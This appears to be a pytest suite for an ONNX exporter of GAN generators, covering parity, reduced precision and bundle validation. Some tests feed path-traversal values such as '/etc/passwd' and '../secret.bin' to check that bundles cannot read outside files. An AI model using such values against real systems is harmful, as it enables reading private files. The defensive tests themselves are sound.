"""Export: ONNX FP32/FP16/INT8 graphs, parity, the bundle format, errors and the CLI."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import onnx
import pytest
import torch
from click.testing import CliRunner
from tiny import (
    TINY_GAN,
    copy_with_a_newer_checkpoint,
    count_checkpoint_loads,
    dequantized_constant_types,
)

from edgegan.cli import cli
from edgegan.errors import EdgeganError
from edgegan.export import (
    BUNDLE_FILE,
    ExportError,
    export,
    is_bundle,
    model_path,
    read_bundle,
    verify,
    write_bundle,
)
from edgegan.export.onnx import fold_batchnorm, read_metadata
from edgegan.sampling import load_run_generator

TINY = TINY_GAN


def _train(out: Path, *extra: str) -> Path:
    from edgegan.config import load_config
    from edgegan.plugins.manager import reset_manager
    from edgegan.train import train

    reset_manager()
    train(load_config("dcgan-mnist", [*TINY, *extra]), out_dir=out)
    reset_manager()
    return out


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("export-runs")
    return {
        "cond": _train(root / "cond"),
        "uncond": _train(root / "uncond", "model.conditional=false", "data.image_size=32"),
    }


@pytest.fixture(scope="module")
def cond_bundle(runs: dict[str, Path]) -> tuple[Path, dict]:
    """The conditional run exported at every precision (once for the module)."""
    out = runs["cond"].parent / "cond-bundle"
    return out, export(runs["cond"], out=out, fp16=True, int8=True, calib_samples=64)


@pytest.fixture(scope="module")
def uncond_bundle(runs: dict[str, Path]) -> tuple[Path, dict]:
    return runs["uncond"] / "export", export(runs["uncond"])


def _session(path: Path):
    return verify.ort_session(path, threads=1)


# -- FP32 graphs, parity, dynamic batch ---------------------------------------------------------
def test_conditional_fp32_graph_matches_torch(cond_bundle):
    out, meta = cond_bundle
    fp32 = meta["models"]["fp32"]
    assert fp32["file"] == "model.onnx" and fp32["opset"] == 18
    assert fp32["exporter"] in ("dynamo", "legacy")
    assert fp32["parity"]["max_abs"] <= verify.FP32_MAX_ABS
    assert fp32["parity"]["samples"] == 64 and fp32["parity"]["psnr"] > 80
    model = onnx.load(str(out / "model.onnx"))
    onnx.checker.check_model(model, full_check=True)
    assert [i.name for i in model.graph.input] == ["z", "labels"]
    assert [o.name for o in model.graph.output] == ["image"]
    ops = {n.op_type for n in model.graph.node}
    assert "BatchNormalization" not in ops  # folded
    # label -1 ("no class") is a training matter: inference takes [0, K), the graph a Gather
    assert not ops & {"Clip", "GreaterOrEqual", "Mul"}, ops
    assert meta["inputs"] == [
        {"name": "z", "dtype": "float32", "shape": ["batch", 16]},
        {"name": "labels", "dtype": "int64", "shape": ["batch"]},
    ]
    assert meta["outputs"] == [{"name": "image", "dtype": "float32", "shape": ["batch", 1, 28, 28]}]


def test_unconditional_32px_graph(uncond_bundle, runs):
    out, meta = uncond_bundle
    assert set(meta["models"]) == {"fp32"}
    assert [i["name"] for i in meta["inputs"]] == ["z"]
    assert meta["outputs"][0]["shape"] == ["batch", 1, 32, 32]
    assert meta["models"]["fp32"]["parity"]["max_abs"] <= verify.FP32_MAX_ABS
    assert meta["source"]["weights"] == "ema" and meta["source"]["step"] == 2
    onnx.checker.check_model(str(out / "model.onnx"), full_check=True)


@pytest.mark.parametrize("batch", [1, 5])
def test_dynamic_batch(cond_bundle, runs, batch):
    out, _ = cond_bundle
    gen = load_run_generator(runs["cond"])
    rng = np.random.default_rng(batch)
    z = rng.standard_normal((batch, 16), dtype=np.float32)
    labels = rng.integers(0, 10, size=batch, dtype=np.int64)
    (image,) = _session(out / "model.onnx").run(None, {"z": z, "labels": labels})
    with torch.no_grad():
        ref = gen.module(torch.from_numpy(z), torch.from_numpy(labels)).numpy()
    assert image.shape == (batch, 1, 28, 28)
    np.testing.assert_allclose(image, ref, atol=1e-4)


def test_fold_batchnorm_is_exact():
    from edgegan.nn.dcgan import DCGANGenerator

    g = DCGANGenerator(8, 3, 64, num_classes=0, ngf=4)
    for m in g.modules():  # non-trivial running statistics and affine parameters
        if isinstance(m, torch.nn.BatchNorm2d):
            m.running_mean.uniform_(-1, 1)
            m.running_var.uniform_(0.5, 2)
            m.weight.data.uniform_(0.5, 1.5)
            m.bias.data.uniform_(-0.5, 0.5)
    g.eval()
    folded, n = fold_batchnorm(g)
    assert n == 4
    assert not any(isinstance(m, torch.nn.BatchNorm2d) for m in folded.modules())
    z = torch.randn(3, 8)
    with torch.no_grad():
        torch.testing.assert_close(folded(z), g(z), atol=1e-5, rtol=0)


@pytest.mark.parametrize("exporter", ["dynamo", "legacy"])
def test_exporter_plugin_on_a_64px_generator(tmp_path, exporter):
    """The registered exporter works on any generator module, without a run."""
    from edgegan.nn.dcgan import DCGANGenerator
    from edgegan.plugins.manager import registry

    assert {"onnx", "onnx-fp16", "onnx-int8"} <= set(registry("exporters").names())
    g = DCGANGenerator(8, 3, 64, num_classes=0, ngf=4).eval()
    spec = {"task": "gan", "latent_dim": 8, "num_classes": 0, "image_shape": [3, 64, 64]}
    params = {"opset": 17, "exporter": exporter}
    entry = registry("exporters").build("onnx", params).export(g, spec, tmp_path)
    assert entry["opset"] == 17 and entry["exporter"] == exporter
    assert entry["parity"]["max_abs"] <= verify.FP32_MAX_ABS
    assert [p.name for p in tmp_path.iterdir()] == ["model.onnx"]
    (image,) = _session(tmp_path / "model.onnx").run(None, {"z": np.zeros((2, 8), np.float32)})
    assert image.shape == (2, 3, 64, 64)


def test_auto_exporter_falls_back_to_legacy(tmp_path, monkeypatch):
    from edgegan.export import onnx as onnx_export
    from edgegan.nn.dcgan import DCGANGenerator

    def broken(*args, **kwargs):
        raise RuntimeError("onnxscript mismatch")

    monkeypatch.setattr(onnx_export, "_export_dynamo", broken)
    g = DCGANGenerator(8, 1, 28, num_classes=3, ngf=4).eval()
    spec = {"task": "gan", "latent_dim": 8, "num_classes": 3, "image_shape": [1, 28, 28]}
    info = onnx_export.export_onnx(g, spec, tmp_path / "m.onnx", exporter="auto")
    assert info["exporter"] == "legacy" and "dynamo failed" in info["note"]
    assert verify.measure_parity(g, spec, tmp_path / "m.onnx")["max_abs"] <= 1e-4
    with pytest.raises(ExportError, match=r"ONNX export \(dynamo exporter\) failed"):
        onnx_export.export_onnx(g, spec, tmp_path / "m.onnx", exporter="dynamo")


def test_ctrl_c_in_the_dynamo_exporters_imports_stops_the_export(tmp_path, monkeypatch):
    """A Ctrl-C landing in torch._dynamo's first import came back from torch as an
    AttributeError, which the fallback took for a broken dynamo: the export went on with the
    legacy exporter and finished, the signal ignored. The imports come first now."""
    import importlib
    import types

    from edgegan.export import onnx as onnx_export
    from edgegan.nn.dcgan import DCGANGenerator

    def interrupted(name, *args, **kwargs):
        if name == "torch._dynamo":  # (imported already here: the signal is simulated)
            raise KeyboardInterrupt
        return importlib.import_module(name, *args, **kwargs)

    fake = types.SimpleNamespace(import_module=interrupted, util=importlib.util)
    monkeypatch.setattr(onnx_export, "importlib", fake)  # edgegan's imports only
    g = DCGANGenerator(8, 1, 28, ngf=4).eval()
    spec = {"task": "gan", "latent_dim": 8, "num_classes": 0, "image_shape": [1, 28, 28]}
    with pytest.raises(KeyboardInterrupt):
        onnx_export.export_onnx(g, spec, tmp_path / "m.onnx", exporter="auto")
    assert not (tmp_path / "m.onnx").exists()


# -- metadata ------------------------------------------------------------------------------------
def test_metadata_round_trip(cond_bundle, uncond_bundle, runs):
    out, meta = cond_bundle
    assert is_bundle(out) and not is_bundle(runs["cond"])
    assert read_bundle(out) == meta == read_bundle(out / BUNDLE_FILE)
    assert meta["format"] == 1 and meta["task"] == "gan" and meta["engines"] == {}
    assert meta["spec"]["class_names"] == [str(i) for i in range(10)]
    assert meta["spec"]["value_range"] == [-1.0, 1.0] and meta["spec"]["num_classes"] == 10
    assert {"torch", "onnx", "onnxruntime"} <= set(meta["versions"])
    for precision in ("fp32", "fp16", "int8"):
        path = model_path(out, precision)
        props = read_metadata(path)
        assert props["edgegan.spec"]["latent_dim"] == 16
        assert props["edgegan.spec"]["image_shape"] == [1, 28, 28]
        assert onnx.load(str(path)).producer_name == "edgegan"
        assert props["edgegan.precision"] == precision  # each graph says what it is
        # The lowest IR version opset 18 allows (8), not onnx's newest (10, which
        # onnxruntime < 1.18 refused), recorded with the I/O dtype and where parity ran.
        entry = meta["models"][precision]
        assert onnx.load(str(path)).ir_version == entry["ir_version"] == 8
        assert entry["io_dtype"] == "float32"
        assert entry["parity"]["provider"] == "CPUExecutionProvider"
    # An unconditional graph names no classes, in edgegan.json and in the graph alike (the
    # graph used to carry the dataset's ten).
    uncond = read_bundle(uncond_bundle[0])
    assert uncond["spec"]["num_classes"] == 0 and uncond["spec"]["class_names"] == []
    props = read_metadata(model_path(uncond_bundle[0], "fp32"))
    assert props["edgegan.spec"]["class_names"] == []
    # write_bundle is atomic and read back identically
    copy = out.parent / "copy"
    write_bundle(copy, meta)
    assert read_bundle(copy) == meta and not list(copy.glob(".*tmp"))


def test_read_bundle_errors(tmp_path, uncond_bundle):
    with pytest.raises(EdgeganError, match="bundle not found"):
        read_bundle(tmp_path / "nope")
    with pytest.raises(EdgeganError, match="not an export bundle"):
        read_bundle(tmp_path)
    (tmp_path / BUNDLE_FILE).write_text("{not json")
    with pytest.raises(EdgeganError, match="cannot read bundle metadata"):
        read_bundle(tmp_path)
    (tmp_path / BUNDLE_FILE).write_text(json.dumps({"format": 99}))
    with pytest.raises(EdgeganError, match="missing task"):
        read_bundle(tmp_path)
    # A newer format needs a newer edgegan (not a re-export: the run may be elsewhere); an
    # older one a new export; neither is "not a bundle".
    meta = {**uncond_bundle[1], "format": 2, "edgegan_version": "0.3.0"}
    (tmp_path / BUNDLE_FILE).write_text(json.dumps(meta))
    with pytest.raises(
        EdgeganError,
        match=r"a bundle of format 2, written by edgegan 0.3.0; this edgegan \(.*\) reads "
        r"format 1: upgrade edgegan to read it$",
    ):
        read_bundle(tmp_path)
    (tmp_path / BUNDLE_FILE).write_text(json.dumps({**meta, "format": 0}))
    with pytest.raises(EdgeganError, match="older format 0.*export the run again"):
        read_bundle(tmp_path)
    (tmp_path / BUNDLE_FILE).write_text(json.dumps({**meta, "format": "1"}))
    with pytest.raises(EdgeganError, match="is not an edgegan bundle: its format is '1'"):
        read_bundle(tmp_path)
    # a bundle from elsewhere names its own files only: nothing outside its folder is read
    good = uncond_bundle[1]
    for bad in ("../run/checkpoints/last.pt", "/etc/passwd", "sub/model.onnx", "..", ""):
        for section, entries in (
            ("models", {**good["models"], "fp32": {**good["models"]["fp32"], "file": bad}}),
            ("engines", {"fp16": {"file": bad}}),
        ):
            (tmp_path / BUNDLE_FILE).write_text(json.dumps({**good, section: entries}))
            with pytest.raises(EdgeganError, match=f"its {section} list the file"):
                read_bundle(tmp_path)
    cyclegan_like = {**good, "task": "cyclegan", "directions": ["AtoB"],
                     "spec": {"channels_a": 1, "channels_b": 3, "image_size": 32},
                     "models": {"AtoB": {"fp32": {"file": "../x.onnx"}}}}  # fmt: skip
    (tmp_path / BUNDLE_FILE).write_text(json.dumps(cyclegan_like))
    with pytest.raises(EdgeganError, match="'../x.onnx'"):
        read_bundle(tmp_path)
    # An edited or truncated edgegan.json is one line here, not a traceback in a runtime.
    spec = good["spec"]
    for changes, message in [
        ({"spec": {**spec, "latent_dim": "abc"}}, "spec.latent_dim must be an integer in 1"),
        ({"spec": {k: v for k, v in spec.items() if k != "latent_dim"}}, "spec.latent_dim"),
        ({"spec": {**spec, "num_classes": -1}}, "spec.num_classes must be an integer in 0\\.\\."),
        # the runtimes build inputs from these: a latent_dim of 2e8 took 3 GB for 4 latents
        (
            {"spec": {**spec, "latent_dim": 200_000_000}},
            "spec.latent_dim must be an integer in 1..1048576, got 200000000",
        ),
        ({"spec": {**spec, "image_shape": [1, 28, 10**6]}}, "spec.image_shape must be"),
        ({"spec": {**spec, "image_shape": [1, 28]}}, "spec.image_shape must be"),
        ({"spec": {**spec, "value_range": [1, -1]}}, "spec.value_range must be"),
        ({"spec": {**spec, "value_range": [1, 1]}}, "spec.value_range must be"),  # 0 wide
        ({"spec": {**spec, "value_range": [-1, float("inf")]}}, "spec.value_range must be"),
        ({"models": {"fp32": "model.onnx"}}, "models.fp32 is not an entry with a 'file'"),
        ({"models": {"fp32": {"opset": 18}}}, "models.fp32 is not an entry with a 'file'"),
        ({"engines": ["x"]}, "engines is not an entry with a 'file'"),
        # a digest edited into another form turned the graph's integrity check off
        *(
            (
                {"models": {"fp32": {**good["models"]["fp32"], "sha256": bad}}},
                re.escape(f"models.fp32's sha256 {bad!r} is not a sha256 digest"),
            )
            for bad in (None, 12, "abc", "A" * 64)
        ),
        ({**cyclegan_like, "directions": []}, "directions must list AtoB and/or BtoA"),
        ({**cyclegan_like, "models": {"AtoB": None}}, "models.AtoB is not an entry"),
        ({**cyclegan_like, "spec": {"channels_a": 1}}, "spec.channels_b must be an integer"),
        (
            {**cyclegan_like, "spec": {**cyclegan_like["spec"], "image_size": 2**70}},
            "spec.image_size must be an integer in 1..4096",
        ),
        # a translator pads to these: 20000 padded 28 px inputs to 20000x20000 (gigabytes)
        *(
            (
                {**cyclegan_like, "spec": {**cyclegan_like["spec"], key: bad}},
                f"spec.{key} must be an integer in 1..1024, got {bad!r}",
            )
            for key in ("size_multiple", "min_side")
            for bad in (20000, -3, "x")
        ),  # fmt: skip
    ]:
        (tmp_path / BUNDLE_FILE).write_text(json.dumps({**good, **changes}))
        with pytest.raises(EdgeganError, match=f"is not a valid edgegan bundle: {message}"):
            read_bundle(tmp_path)
    from edgegan.data.base import MAX_IMAGE_SIZE
    from edgegan.export import bundle as bundle_mod

    assert bundle_mod.MAX_IMAGE_SIZE == MAX_IMAGE_SIZE  # a copy: importing it loads torch
    (tmp_path / BUNDLE_FILE).write_text('{"format": ' + "9" * 5000 + "}")  # past int limit
    with pytest.raises(EdgeganError, match="cannot read bundle metadata .*Exceeds the limit"):
        read_bundle(tmp_path)
    (tmp_path / BUNDLE_FILE).write_text("[" * 100_000)  # nested past Python's limit
    with pytest.raises(EdgeganError, match="cannot read bundle metadata .*nested too deeply"):
        read_bundle(tmp_path)
    with pytest.raises(EdgeganError, match="has no int8 model.*--int8"):
        model_path(uncond_bundle[0], "int8")
    # The command rewrites this bundle: its own precisions, the missing one, its folder.
    run = uncond_bundle[1]["source"]["run_dir"]
    with pytest.raises(EdgeganError) as exc_info:
        model_path(tmp_path, "fp16", meta=uncond_bundle[1])
    assert str(exc_info.value).endswith(
        f"export one with `edgegan export {run} --fp16 --out {tmp_path} --overwrite`"
    )
    with pytest.raises(EdgeganError) as exc_info:
        model_path(uncond_bundle[0], "int8")  # RUN/export, export's default --out
    assert str(exc_info.value).endswith(f"`edgegan export {run} --int8 --overwrite`")


def test_a_graph_that_disagrees_with_edgegan_json_is_refused(tmp_path, cond_bundle, uncond_bundle):
    """The runners build inputs and read outputs from edgegan.json: a graph from another
    export used to run with the labels silently dropped, or write images of another shape."""
    from edgegan.runtime import open_runner

    cond, uncond = cond_bundle[0], uncond_bundle[0]
    for name, graph_from, spec_change, message in [
        ("labels", uncond, {}, "its inputs are z, the bundle's labels, z"),
        ("latent", cond, {"latent_dim": 32}, "'z' is \\[batch, 16\\] in the graph, "
                                             "\\[batch, 32\\] in the bundle"),
        ("shape", cond, {"image_shape": [1, 32, 32]}, "'image' is \\[batch, 1, 28, 28\\]"),
    ]:  # fmt: skip
        bundle = tmp_path / name
        shutil.copytree(cond, bundle)
        shutil.copy(graph_from / "model.onnx", bundle / "model.onnx")
        meta = read_bundle(bundle)
        meta["spec"].update(spec_change)
        del meta["models"]["fp32"]["sha256"]  # as before digests (with one, it says so first)
        write_bundle(bundle, meta)
        with pytest.raises(EdgeganError, match=f"model.onnx does not match the bundle's edgegan"
                                               f".json \\({message}"):  # fmt: skip
            open_runner(bundle, "onnxruntime")
    with open_runner(cond, "onnxruntime") as runner:  # the bundle as exported
        assert list(runner.input_names) == ["z", "labels"]
        assert repr(runner) == "<OrtRunner onnxruntime/fp32/cpu>"  # not an address


def test_a_graph_with_other_weights_is_refused_by_its_digest(tmp_path, cond_bundle):
    """The same interface with other weights (another run's export copied in) ran silently:
    only bench's parity (16.7 dB) showed it, exiting 0."""
    import shutil

    from onnx import numpy_helper

    from edgegan.runtime import open_runner

    cond, meta = cond_bundle
    assert all(len(e["sha256"]) == 64 for e in meta["models"].values())
    bundle = tmp_path / "b"
    shutil.copytree(cond, bundle)
    graph = onnx.load(str(bundle / "model.onnx"))
    first = graph.graph.initializer[0]
    first.CopyFrom(numpy_helper.from_array(numpy_helper.to_array(first) * 1.5, first.name))
    onnx.save(graph, str(bundle / "model.onnx"))
    with pytest.raises(EdgeganError, match="model.onnx is not the graph the bundle's edgegan"):
        open_runner(bundle, "onnxruntime")
    with open_runner(bundle, "onnxruntime", precision="fp16"):  # the untouched ones still run
        pass


def test_a_graph_that_names_external_data_is_refused_and_a_linked_one_is_checked(
    tmp_path, cond_bundle
):
    """A bundle from elsewhere: (without digests) a graph whose tensors live in external
    files such as ../secret.bin, which onnxruntime 1.22 opened, is refused before
    onnxruntime reads anything. A graph that is a link (git-annex, DVC) runs when its
    target is the exported graph."""
    import os

    from onnx import external_data_helper

    from edgegan.runtime import open_runner

    cond, _ = cond_bundle
    bundle = tmp_path / "b"
    shutil.copytree(cond, bundle)
    outside = tmp_path / "outside.onnx"
    os.replace(bundle / "model.onnx", outside)
    (bundle / "model.onnx").symlink_to(outside)
    with open_runner(bundle, "onnxruntime"):  # the digest is the exported graph's
        pass
    (bundle / "model.onnx").unlink()
    graph = onnx.load(str(outside))
    external_data_helper.convert_model_to_external_data(
        graph, all_tensors_to_one_file=True, location="secret.bin", size_threshold=0
    )
    for tensor in graph.graph.initializer:  # onnx.save refuses '..'; a hand-made file need not
        for kv in tensor.external_data:
            if kv.key == "location":
                kv.value = "../secret.bin"
    (bundle / "model.onnx").write_bytes(graph.SerializeToString())
    meta = read_bundle(bundle)
    del meta["models"]["fp32"]["sha256"]  # a digest would refuse the edited graph anyway
    write_bundle(bundle, meta)
    with pytest.raises(EdgeganError, match="keeps tensors in external data files"):
        open_runner(bundle, "onnxruntime")
    # A Constant node's tensor may name a file too (initializers all inline).
    from onnx import helper, numpy_helper

    graph = onnx.load(str(outside))
    value = numpy_helper.from_array(np.zeros(4, np.float32), "c")
    value.ClearField("raw_data")
    value.data_location = onnx.TensorProto.EXTERNAL
    value.external_data.add(key="location", value="../secret.bin")
    graph.graph.node.append(helper.make_node("Constant", [], ["unused"], value=value))
    (bundle / "model.onnx").write_bytes(graph.SerializeToString())
    with pytest.raises(EdgeganError, match="keeps tensors in external data files"):
        open_runner(bundle, "onnxruntime")
    # ... and with the edited graph's own digest recorded: the check did not run then
    from edgegan.fileio import sha256_file

    meta["models"]["fp32"]["sha256"] = sha256_file(bundle / "model.onnx")
    write_bundle(bundle, meta)
    with pytest.raises(EdgeganError, match="keeps tensors in external data files"):
        open_runner(bundle, "onnxruntime")
    # ... and in the branch of an If node (onnxruntime reads a subgraph's external tensors)
    graph = onnx.load(str(outside))
    branch = helper.make_graph(
        [helper.make_node("Constant", [], ["c_out"], value=value)], "then", [],
        [helper.make_tensor_value_info("c_out", onnx.TensorProto.FLOAT, [4])],
    )  # fmt: skip
    cond = numpy_helper.from_array(np.array(True), "cond")
    graph.graph.initializer.append(cond)
    graph.graph.node.append(helper.make_node("If", ["cond"], ["if_out"], then_branch=branch,
                                             else_branch=branch))  # fmt: skip
    (bundle / "model.onnx").write_bytes(graph.SerializeToString())
    meta["models"]["fp32"]["sha256"] = sha256_file(bundle / "model.onnx")
    write_bundle(bundle, meta)
    with pytest.raises(EdgeganError, match="keeps tensors in external data files"):
        open_runner(bundle, "onnxruntime")


def test_a_run_generator_repr_leaves_the_network_out(runs):
    gen = load_run_generator(runs["cond"])
    assert repr(gen).startswith("RunGenerator(spec=") and "Conv" not in repr(gen)


# -- reduced precision ---------------------------------------------------------------------------
def test_fp16_graph_has_fp32_io(cond_bundle):
    out, meta = cond_bundle
    fp16 = meta["models"]["fp16"]
    model = onnx.load(str(out / fp16["file"]))
    f32, f16 = onnx.TensorProto.FLOAT, onnx.TensorProto.FLOAT16
    assert model.graph.input[0].type.tensor_type.elem_type == f32
    assert model.graph.output[0].type.tensor_type.elem_type == f32
    assert any(t.data_type == f16 for t in model.graph.initializer)
    assert fp16["parity"]["psnr"] >= 30
    assert 0 < fp16["activation_peak"] < 100  # far inside FP16's range
    onnx.checker.check_model(model, full_check=True)


def test_each_graphs_recorded_parity_is_its_own(cond_bundle, runs):
    """The parity in edgegan.json is measured on each precision's own graph: FP16 and INT8
    parity taken from the FP32 graph passed every check (it is better than theirs)."""
    out, meta = cond_bundle
    generator = load_run_generator(runs["cond"]).module
    feeds = verify.parity_inputs(meta["spec"])
    reference = verify.torch_outputs(generator, feeds)
    recorded = {}
    for precision in ("fp32", "fp16", "int8"):
        entry = meta["models"][precision]
        again = verify.compare(reference, verify.onnx_outputs(out / entry["file"], feeds))
        recorded[precision] = entry["parity"]["psnr"]
        assert recorded[precision] == pytest.approx(again["psnr"], abs=0.01), precision
        assert entry["parity"]["max_abs"] == pytest.approx(again["max_abs"], rel=1e-3)  # 4 digits
    assert recorded["int8"] < recorded["fp16"] < recorded["fp32"]


def test_psnr_is_over_the_width_of_the_value_range(runs, monkeypatch):
    """A graph off by 0.02 everywhere: PSNR 10 log10(2**2 / 0.02**2) = 40 dB over [-1, 1]
    (taking the top of the range, 1, for the width gave 34 dB), 33.98 dB over [0, 1]."""
    loaded = load_run_generator(runs["uncond"])
    generator, reference = loaded.module, verify.torch_outputs

    def off(path, feeds):
        return [r + np.float32(0.02) for r in reference(generator, feeds)]

    monkeypatch.setattr(verify, "onnx_outputs", off)
    spec = {**loaded.spec, "value_range": [-1.0, 1.0]}
    parity = verify.measure_parity(generator, spec, "unused.onnx")
    assert parity["psnr"] == pytest.approx(40.0, abs=0.01)
    assert parity["max_abs"] == pytest.approx(0.02, rel=1e-4)
    parity = verify.measure_parity(generator, {**spec, "value_range": [0.0, 1.0]}, "unused")
    assert parity["psnr"] == pytest.approx(33.98, abs=0.01)


@pytest.mark.parametrize("precision", ["fp16", "int8"])
def test_a_reduced_precision_graph_below_its_floor_fails_the_export(
    runs, tmp_path, monkeypatch, precision
):
    """The PSNR floors of the FP16 and INT8 graphs are applied by the exporters: without
    them a broken reduced-precision graph shipped from a passing export."""
    monkeypatch.setitem(verify.MIN_PSNR, precision, 300.0)  # more than any graph gives
    out = tmp_path / precision
    with pytest.raises(ExportError, match=f"{precision} graph model.{precision}.onnx "):
        export(runs["uncond"], out=out, calib_samples=8, **{precision: True})
    assert not out.exists()
    monkeypatch.setitem(verify.MIN_PSNR, precision, 10.0)
    assert (
        precision in export(runs["uncond"], out=out, calib_samples=8, **{precision: True})["models"]
    )


def _scaled_matmuls(tmp_path: Path, first: float, second: float) -> Path:
    """x -> MatMul(first * W) -> Relu -> MatMul(second * W) -> y, as an FP32 graph."""
    from onnx import helper, numpy_helper

    w = np.eye(4, dtype=np.float32)
    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["x", "w1"], ["h"], name="big"),
            helper.make_node("Relu", ["h"], ["r"], name="relu"),
            helper.make_node("MatMul", ["r", "w2"], ["y"], name="small"),
        ],
        "scaled",
        [helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, ["n", 4])],
        [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, ["n", 4])],
        [numpy_helper.from_array(w * first, "w1"), numpy_helper.from_array(w * second, "w2")],
    )
    path = tmp_path / f"scaled_{first:g}.onnx"
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)]), str(path))
    return path


def test_fp16_refuses_weights_and_activations_beyond_its_range(tmp_path):
    """The same function with its intermediate scaled by 1e5 passed at 79 dB: ONNX Runtime's
    CPU provider computes FP16 convolutions in FP32, so the CPU's parity never overflows,
    while a GPU's FP16 arithmetic gave inf (NaN images). Weights above 65504 were clamped by
    the converter (a debug log line) and the changed model passed at 51 dB."""
    from edgegan.export.precision import to_fp16

    feeds = [{"x": np.full((2, 4), 10.0, np.float32)}]
    entry = to_fp16(_scaled_matmuls(tmp_path, 1.0, 1.0), tmp_path / "ok.onnx", feeds=feeds)
    assert entry["activation_peak"] == 10.0
    with pytest.raises(ExportError, match=r"node 'big' \(MatMul\) reaches 1e\+05 .*beyond FP16"):
        to_fp16(_scaled_matmuls(tmp_path, 1e4, 1e-4), tmp_path / "over.onnx", feeds=feeds)
    with pytest.warns(UserWarning, match=r"little headroom: node 'big' \(MatMul\) reaches 2e\+04"):
        to_fp16(_scaled_matmuls(tmp_path, 2e3, 5e-4), tmp_path / "near.onnx", feeds=feeds)
    # The last node's output is renamed by the converter (a cast to the FP32 graph output
    # follows): it was never looked at, and a generator without a final tanh escaped.
    with pytest.raises(ExportError, match=r"node 'small' \(MatMul\) reaches 1e\+05"):
        to_fp16(_scaled_matmuls(tmp_path, 1.0, 1e4), tmp_path / "out.onnx", feeds=feeds)
    with pytest.raises(ExportError, match=r"cannot hold weight 'w1': .* 1e\+06 is beyond"):
        to_fp16(_scaled_matmuls(tmp_path, 1e6, 1e-6), tmp_path / "clamped.onnx", feeds=feeds)
    assert not (tmp_path / "over.onnx").exists() and not (tmp_path / "clamped.onnx").exists()


def test_int8_graph_is_qdq(cond_bundle):
    out, meta = cond_bundle
    int8 = meta["models"]["int8"]
    model = onnx.load(str(out / int8["file"]))
    assert {"QuantizeLinear", "DequantizeLinear"} <= {n.op_type for n in model.graph.node}
    assert dequantized_constant_types(model) == {"INT8"}  # biases stay float (TensorRT)
    # none of ONNX Runtime's leftovers: unused opset domains, its metadata
    assert [o.domain for o in model.opset_import] == [""]
    assert all(p.key.startswith("edgegan.") for p in model.metadata_props)
    assert int8["calibration"] == {
        "samples": 64,
        "source": "latent prior",
        "method": "minmax",
        "seed": 1234,
    }
    assert len(int8["excluded_nodes"]) == 1
    assert int8["parity"]["psnr"] >= verify.MIN_PSNR["int8"]
    assert 0 < int8["parity"]["max_abs"] < 1
    # Per-channel weights: one scale per output channel of each quantised weight (the
    # "per-channel" in edgegan.json came from the parameter, not from the graph).
    from onnx import numpy_helper

    constants = {t.name: numpy_helper.to_array(t) for t in model.graph.initializer}
    weight_scales = [
        constants[n.input[1]]
        for n in model.graph.node
        if n.op_type == "DequantizeLinear" and constants.get(n.input[0], np.zeros(0)).ndim == 4
    ]
    assert weight_scales and all(s.ndim == 1 and len(s) > 1 for s in weight_scales)


def test_int8_calibration_covers_every_class_and_u8_activations_are_asymmetric(
    cond_bundle, tmp_path
):
    """Mutation testing: calibrating on class 0 alone, or making the u8 activations
    symmetric, left the suite green (the u8 path was never exported)."""
    from onnx import numpy_helper

    from edgegan.export.precision import LatentPriorReader, to_int8

    out, meta = cond_bundle
    spec = meta["spec"]
    reader = LatentPriorReader(spec, 64)
    seen = np.concatenate([f["labels"] for f in reader.feeds])
    assert set(seen.tolist()) == set(range(int(spec["num_classes"]))) and len(seen) == 64
    to_int8(out / "model.onnx", tmp_path / "u8.onnx", spec, 64, activations="u8")
    model = onnx.load(str(tmp_path / "u8.onnx"))
    constants = {t.name: numpy_helper.to_array(t) for t in model.graph.initializer}
    zero_points = [
        constants[n.input[2]]
        for n in model.graph.node
        if n.op_type == "QuantizeLinear" and len(n.input) > 2 and n.input[2] in constants
    ]
    assert zero_points and all(z.dtype == np.uint8 for z in zero_points)
    assert len({int(z.ravel()[0]) for z in zero_points}) > 1  # ranges of their own, not 128


def test_parity_figures_are_what_they_say():
    """Mutation testing: PSNR over peak instead of peak squared (3 dB off in every
    edgegan.json and both gates), max_abs as the mean error, no shape check, parity labels
    short of the last class, translator inputs over half the value range: all passed."""
    from edgegan.export.signature import random_images

    assert verify.psnr(np.zeros(4), np.full(4, 0.2)) == pytest.approx(20.0)  # 10 log10(4/0.04)
    assert verify.psnr(np.zeros(4), np.full(4, 0.1), peak=1.0) == pytest.approx(20.0)
    ref = np.zeros((2, 3), np.float32)
    out = ref.copy()
    out[1, 2] = 0.5
    got = verify.compare([ref], [out])
    assert got["max_abs"] == 0.5 and got["mean_abs"] == pytest.approx(0.5 / 6)
    with pytest.raises(ExportError, match=r"returned shape \(2, 2\); torch gave \(2, 3\)"):
        verify.compare([ref], [out[:, :2]])
    feeds = verify.parity_inputs({"latent_dim": 4, "num_classes": 3})
    assert set(np.concatenate([f["labels"] for f in feeds]).tolist()) == {0, 1, 2}
    images = random_images({"channels_in": 1, "image_size": 8, "size_multiple": 4}, 4)
    assert images.min() < -0.9 and images.max() > 0.9


def test_int8_export_leaves_the_programs_logging_as_it_was(uncond_bundle, tmp_path):
    import logging

    from edgegan.export.precision import to_int8

    out, meta = uncond_bundle
    root, ort = logging.getLogger(), logging.getLogger("onnxruntime")
    before = root.level, ort.level
    root.setLevel(logging.INFO)
    ort.setLevel(logging.DEBUG)
    try:
        to_int8(out / meta["models"]["fp32"]["file"], tmp_path / "g.onnx", meta["spec"], 8)
        # It used to set the root logger to ERROR for good: the program's INFO and WARNING
        # lines vanished after an INT8 export.
        assert (root.level, ort.level) == (logging.INFO, logging.DEBUG)
    finally:
        root.setLevel(before[0])
        ort.setLevel(before[1])


# -- failures leave nothing behind ---------------------------------------------------------------
def test_parity_failure_raises_and_writes_nothing(runs, monkeypatch):
    real = verify.torch_outputs

    def noisy(generator, feeds):
        return [o + 1e-2 for o in real(generator, feeds)]

    monkeypatch.setattr(verify, "torch_outputs", noisy)
    out = runs["uncond"].parent / "bad-bundle"
    with pytest.raises(ExportError, match="does not match the torch generator") as info:
        export(runs["uncond"], out=out)
    assert info.value.exit_code == 1
    assert not out.exists()
    assert not [p for p in out.parent.iterdir() if p.name.startswith(".bad-bundle")]
